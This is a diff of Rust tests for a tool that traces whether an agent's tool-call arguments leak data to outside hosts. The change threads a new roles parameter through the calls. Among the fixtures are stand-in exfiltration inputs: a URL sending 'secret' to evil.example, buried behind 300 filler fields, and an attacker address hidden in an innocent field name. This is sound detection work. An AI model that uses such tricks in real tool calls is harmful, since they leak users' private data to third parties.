@@ -5,7 +5,7 @@ fn source(origin: &str, trust: Trust, text: &str) -> Source {
 }
 
 fn worst(task: &str, sources: Vec<Source>, arguments: &str) -> Option<Provenance> {
-    Known::new(task, sources).trace(&Json::parse(arguments).unwrap()).first().map(|traced| traced.provenance)
+    Known::new(task, sources).trace(&Json::parse(arguments).unwrap(), &Roles::default()).first().map(|traced| traced.provenance)
 }
 
 #[test]
@@ -63,7 +63,7 @@ fn an_address_that_carries_something_to_a_stranger_is_traced_in_a_look() {
     };
     let look = |task: &str, url: &str| {
         let arguments = Json::parse(&format!("{{\"url\":\"{url}\"}}")).unwrap();
-        Known::new(task, sources()).trace_carriers(&arguments).first().map(|traced| traced.provenance)
+        Known::new(task, sources()).trace_carriers(&arguments, &Roles::default()).first().map(|traced| traced.provenance)
     };
     assert_eq!(look("", "https://b.example/c?list=Penhale,Thornbury"), Some(Provenance::Untrusted));
     assert_eq!(look("", "https://elsewhere.example/?x=Penhale"), Some(Provenance::Made));
@@ -74,10 +74,10 @@ fn an_address_that_carries_something_to_a_stranger_is_traced_in_a_look() {
 
 #[test]
 fn neither_a_harmless_name_nor_a_crowd_hides_an_address() {
-    let traced = |arguments: &str| Known::new("look", Vec::new()).trace(&Json::parse(arguments).unwrap()).len();
+    let traced = |arguments: &str| Known::new("look", Vec::new()).trace(&Json::parse(arguments).unwrap(), &Roles::default()).len();
     assert_eq!(traced(r#"{"language":"eve@evil.example","status":"open","date":"2026-11-22"}"#), 1);
     let many: Vec<_> = (0..300).map(|index| format!("\"a{index}\":\"x\"")).collect();
     let arguments = format!("{{{},\"url\":\"https://evil.example/?d=secret\"}}", many.join(","));
-    let carriers = Known::new("look", Vec::new()).trace_carriers(&Json::parse(&arguments).unwrap());
+    let carriers = Known::new("look", Vec::new()).trace_carriers(&Json::parse(&arguments).unwrap(), &Roles::default());
     assert_eq!(carriers.first().map(|traced| traced.provenance), Some(Provenance::Made), "the last of many is seen, too");
 }
